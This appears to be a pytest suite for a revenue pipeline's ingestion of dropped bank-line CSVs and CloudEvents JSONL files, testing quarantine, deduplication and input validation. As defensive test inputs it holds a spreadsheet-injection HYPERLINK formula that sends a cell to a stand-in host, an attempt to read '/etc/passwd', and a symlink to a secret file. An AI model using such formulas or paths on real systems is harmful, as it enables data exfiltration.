"""File drops: what is refused whole, what row by row, and that nothing comes in twice or by a side door."""

from __future__ import annotations

import codecs
import datetime as dt
import hashlib
import json
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from sources_support import Lander

from revenue_assets.sources.base import Page, Source, SourceError
from revenue_assets.sources.cloudevents import CloudEventsSource
from revenue_assets.sources.treasury import COLUMNS, TreasurySource

NOW = dt.datetime(2026, 11, 1, 3, tzinfo=dt.UTC)
HEADER = ",".join(COLUMNS["bank_line"])
ZONES = {"US": "America/New_York", "DE": "Europe/Berlin"}


def line(n: int, amount: str = "10.00", currency: str = "USD", **more: str) -> str:
    row = {"entity_id": "US", "bank_account": "4711", "statement_id": "S1", "bank_line_id": f"B{n}"}
    row |= {"value_date": "2026-10-31", "amount": amount, "currency": currency, "reference": "po_1"}
    row |= {"counterparty": "Processor"} | more
    return ",".join(row.values())


def csv_text(*lines: str) -> str:
    return "".join(f"{text}\n" for text in (HEADER, *lines))


class Drop:
    """A drop folder and a landing home."""

    def __init__(self, home: Path) -> None:
        self.folder, self.lander = home / "drop", Lander(home / "home")
        self.folder.mkdir()

    def put(self, name: str, content: str | bytes) -> None:
        (self.folder / name).write_bytes(content.encode() if isinstance(content, str) else content)

    def bank(self) -> Any:
        return self._land(TreasurySource("treasury", None, options={"drop": str(self.folder)}), "bank_line")

    def events(self) -> Any:
        options = {"drop": str(self.folder), "time_zones": ZONES}
        return self._land(CloudEventsSource("events", None, options=options), "cloud_event")

    def _land(self, source: Source, name: str) -> Any:
        assert isinstance(source, Source)
        return self.lander.land(source, [name], NOW)[name]

    def reasons(self, source: str = "treasury", name: str = "bank_line") -> list[str]:
        return [reason for reason, _ in self.lander.quarantined(source, name)]


@pytest.fixture
def drop(tmp_path: Path) -> Drop:
    return Drop(tmp_path)


def test_rows_land_as_text_with_control_totals(drop: Drop) -> None:
    drop.put("bank_line.csv", csv_text(line(1, "1.10"), line(2, "-90071992547409931.01"), line(3, "5", "JPY")))
    drop.put(
        "fx_rate.csv",
        "entity_id,from_currency,to_currency,rate_date,rate_type,rate\nUS,EUR,USD,2026-10-31,spot,1.0900\n",
    )
    result = drop.bank()
    assert result.rows_landed == 3
    assert result.batches[0].control_totals["amounts"]["amount"] == {"jpy": "5", "usd": "-90071992547409929.91"}
    assert drop.lander.latest("treasury", "bank_line")["US:B1"]["amount"] == "1.10"
    rates = TreasurySource("treasury", None, options={"drop": str(drop.folder)})
    drop.lander.land(rates, ["fx_rate"], NOW)
    assert drop.lander.latest("treasury", "fx_rate")["US:EUR:USD:2026-10-31:spot"]["rate"] == "1.0900"


def test_same_content_twice_adds_nothing(drop: Drop) -> None:
    drop.put("bank_line.csv", csv_text(line(1), line(2)))
    drop.bank()
    drop.put("bank_line (copy).csv", csv_text(line(1), line(2)))
    again = drop.bank()
    assert (again.rows_read, again.rows_landed, again.batches) == (0, 0, [])


def test_an_old_file_delivered_again_does_not_undo_a_correction(drop: Drop) -> None:
    drop.put("bank_line_1.csv", csv_text(line(1, "10.00")))
    drop.bank()
    drop.put("bank_line_2.csv", csv_text(line(1, "12.00")))
    drop.bank()
    drop.put("bank_line_3.csv", csv_text(line(1, "10.00")))
    drop.bank()
    assert drop.lander.latest("treasury", "bank_line")["US:B1"]["amount"] == "12.00"


def test_lost_cursor_reads_all_files_again_to_the_same_end(drop: Drop) -> None:
    drop.put("bank_line_1.csv", csv_text(line(1, "10.00")))
    drop.put("bank_line_2.csv", csv_text(line(1, "12.00")))
    drop.bank()
    drop.lander.cursors.kept.clear()
    drop.bank()
    assert drop.lander.latest("treasury", "bank_line")["US:B1"]["amount"] == "12.00"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (csv_text(line(1)) + line(2)[:-9], "last line is not ended"),
        (csv_text(line(1), line(2)[:20]), "last line has"),
        (csv_text(line(1)).replace("amount", "amt"), "header"),
        (csv_text(line(1)).replace(",", ";"), "header"),
        (codecs.BOM_UTF16_LE + csv_text(line(1)).encode("utf-16-le"), "UTF-16"),
        (csv_text(line(1)).encode() + b"\xff\xfe,\n", "not UTF-8"),
        (csv_text(line(1), line(2, reference='"open')), "quoting"),
        (csv_text(line(1)) + "\0\n", "NUL"),
    ],
)
def test_unfit_file_is_quarantined_whole_and_the_others_load(drop: Drop, content: Any, reason: str) -> None:
    drop.put("bank_line_bad.csv", content)
    drop.put("bank_line_good.csv", csv_text(line(7)))
    result = drop.bank()
    assert (result.rows_landed, result.rows_quarantined) == (1, 1)
    [found] = drop.reasons()
    assert reason in found
    assert "bank_line_bad.csv" in found
    assert drop.bank().rows_read == 0


def test_fixed_file_under_the_same_name_loads(drop: Drop) -> None:
    drop.put("bank_line.csv", csv_text(line(1))[:-3])
    assert drop.bank().rows_landed == 0
    drop.put("bank_line.csv", csv_text(line(1)))
    assert drop.bank().rows_landed == 1


@pytest.mark.parametrize(
    ("manifest", "landed"),
    [
        ({"rows": 2}, 2),
        ({"rows": 3}, 0),
        ({"rows": 2, "sha256": "0" * 64}, 0),
        ({"rows": 2, "sha256": hashlib.sha256(csv_text(line(1), line(2)).encode()).hexdigest()}, 2),
        ({"rows": True}, 0),
        ({}, 0),
    ],
)
def test_manifest_decides(drop: Drop, manifest: dict[str, Any], landed: int) -> None:
    drop.put("bank_line.csv", csv_text(line(1), line(2)))
    drop.put("bank_line.csv.manifest", json.dumps(manifest))
    result = drop.bank()
    assert (result.rows_landed, result.rows_quarantined) == (landed, 0 if landed else 1)


@pytest.mark.parametrize(
    "bad",
    [
        line(9, '"1234,50"'),
        line(9, "1.005"),
        line(9, "100.50", "JPY"),
        line(9, "1e3"),
        line(9, "NaN"),
        line(9, "1.00", "usd"),
        line(9, "1.00", "XXQ"),
        line(9, ""),
        line(9, value_date="31.10.2026"),
        line(9, value_date="2026-02-30"),
        line(9, bank_line_id="B\u202e9"),
        line(9, reference="x" * 20_000),
        line(9) + ",surplus",
        line(1, "99.00"),
    ],
)
def test_one_bad_row_harms_only_itself(drop: Drop, bad: str) -> None:
    drop.put("bank_line.csv", csv_text(line(1), bad, line(2)))
    result = drop.bank()
    assert (result.rows_landed, result.rows_quarantined) == (2, 1)
    [reason] = drop.reasons()
    assert "line 3" in reason


def test_formula_is_kept_as_it_is(drop: Drop) -> None:
    formula = '"=HYPERLINK(""http://x/?""&A1)"'
    drop.put("bank_line.csv", csv_text(line(1, reference=formula)))
    drop.bank()
    assert drop.lander.latest("treasury", "bank_line")["US:B1"]["reference"] == '=HYPERLINK("http://x/?"&A1)'


def test_links_pipes_and_archives_are_not_read(drop: Drop, tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text(csv_text(line(1, counterparty="canary-secret")))
    (drop.folder / "bank_line_link.csv").symlink_to(secret)
    os.mkfifo(drop.folder / "bank_line_pipe.csv")
    (drop.folder / "bank_line_folder.csv").mkdir()
    with zipfile.ZipFile(drop.folder / "bank_line_zip.csv", "w") as archive:
        archive.writestr("a.csv", csv_text(line(1)))
    result = drop.bank()
    assert (result.rows_landed, result.rows_quarantined) == (0, 4)
    assert "canary-secret" not in drop.lander.all_text()


def test_a_drop_needs_a_folder_and_a_missing_folder_is_empty(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="option 'drop'"):
        TreasurySource("treasury", None)
    with pytest.raises(SourceError, match="option 'drop'"):
        CloudEventsSource("events", None, "file:///etc/passwd")
    source = TreasurySource("treasury", None, options={"drop": str(tmp_path / "absent")})
    assert list(source.pull("bank_line", None, NOW)) == [Page("bank_line", [], {"files": []})]


def event(n: int = 1, **more: Any) -> dict[str, Any]:
    body = {
        "specversion": "1.0",
        "id": f"e{n}",
        "source": "/billing/emea",
        "type": "invoice.posted",
        "entityid": "US",
        "time": "2026-11-01T03:30:00Z",
        "dataschema": "urn:revenue-assets:invoice.posted:1",
        "effectivedate": "2026-10-31",
        "recordedtime": "2026-11-01T04:00:00Z",
        "data": {"invoice_id": "I1", "customer_id": "K1", "currency": "USD", "lines": [{"line_id": "L1", "amount": 5}]},
    }
    return {key: value for key, value in (body | more).items() if value is not ...}


def jsonl(*events: Any) -> str:
    return "".join(f"{e if isinstance(e, str) else json.dumps(e)}\n" for e in events)


def test_events_land_as_received(drop: Drop) -> None:
    odd = '{"rate":1.10, "data" : {"invoice_id": "I2","customer_id":"K1", "currency":"USD","lines":[], "score":1.10}, '
    odd += json.dumps(event(2, data=...))[1:]
    drop.put("a.jsonl", jsonl(event(1), "", odd))
    result = drop.events()
    assert (result.rows_landed, result.rows_quarantined) == (2, 0)
    assert odd in drop.lander.latest_raw("events", "cloud_event").values()


@pytest.mark.parametrize(("zone", "date"), [("US", "2026-10-31"), ("DE", "2026-11-01")])
def test_missing_effective_date_is_the_local_date(drop: Drop, zone: str, date: str) -> None:
    drop.put("a.jsonl", jsonl(event(1, effectivedate=..., entityid=zone)))
    drop.events()
    [landed] = drop.lander.latest("events", "cloud_event").values()
    assert landed["effectivedate"] == date


def test_second_delivery_is_ignored_and_a_conflict_survives(drop: Drop) -> None:
    first = event(1)
    reordered = {key: first[key] for key in reversed(first)}
    later = first | {"recordedtime": "2026-11-05T00:00:00Z"}
    drop.put("a.jsonl", jsonl(first, reordered, later))
    assert (drop.events().rows_unchanged, len(drop.lander.latest("events", "cloud_event"))) == (2, 1)
    other = first["data"] | {"lines": [{"line_id": "L1", "amount": 900}]}
    drop.put("b.jsonl", jsonl(later, first | {"data": other}))
    result = drop.events()
    assert (result.rows_landed, result.rows_unchanged) == (1, 1)
    landed = drop.lander.latest("events", "cloud_event").values()
    assert sorted(row["data"]["lines"][0]["amount"] for row in landed) == [5, 900]
    assert {row["recordedtime"] for row in landed} == {first["recordedtime"]}


def test_shuffled_files_give_the_same_events(drop: Drop, tmp_path: Path) -> None:
    events = [event(n) for n in range(20)]
    (tmp_path / "b").mkdir()
    other = Drop(tmp_path / "b")
    drop.put("a.jsonl", jsonl(*events))
    other.put("a.jsonl", jsonl(*reversed(events)))
    drop.events()
    other.events()
    assert drop.lander.latest_raw("events", "cloud_event") == other.lander.latest_raw("events", "cloud_event")


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        ('{"id":"e9"', "not JSON"),
        (json.dumps(event(9))[:-1] + ',"id":"e9"}', "stands twice"),
        ("[" * 100_000, "nesting"),
        (json.dumps(event(9)).replace(": 5}", ": NaN}"), "NaN"),
        ('["e9"]', "not an object"),
        (event(9, specversion="0.3"), "specversion"),
        (event(9, id=...), "id is missing"),
        (event(9, id=""), "id is empty"),
        (event(9, id=7), "id is not a text"),
        (event(9, id="in_1\u202e"), "id is not plain ASCII"),
        (event(9, data=None), "data is missing"),
        (event(9, data=[1]), "data is not an object"),
        (event(9, time="2026-11-01T03:30:00"), "time is not an RFC 3339"),
        (event(9, time="2026-13-01T03:30:00Z"), "time is not an RFC 3339"),
        (event(9, recordedtime=...), "recordedtime is missing"),
        (event(9, effectivedate="31/10/2026"), "effectivedate"),
        (event(9, effectivedate="2026-02-30"), "effectivedate"),
        (event(9, effectivedate=..., entityid="XX"), "time zone of entityid"),
        (event(9, dataschema="urn:revenue-assets:invoice.posted:2"), "dataschema"),
        (event(9, dataschema="urn:revenue-assets:refund.issued:1"), "dataschema"),
        (event(9, datacontenttype="text/xml"), "datacontenttype"),
        (event(9, sequence=3), "sequence is not a text"),
        (event(9, Extra="x"), "attribute"),
        (event(9, extra={"a": 1}), "attribute"),
        (event(9, data={"memo": "x\0y"}), "NUL"),
        (event(9, data={"memo": "x" * 2_000_000}), "longer than"),
    ],
)
def test_bad_line_goes_to_quarantine_with_its_number(drop: Drop, bad: Any, reason: str) -> None:
    drop.put("a.jsonl", jsonl(event(1), bad, event(2)))
    result = drop.events()
    assert (result.rows_landed, result.rows_quarantined) == (2, 1)
    [found] = drop.reasons("events", "cloud_event")
    assert reason in found
    assert found.startswith("file a.jsonl line 2: ")
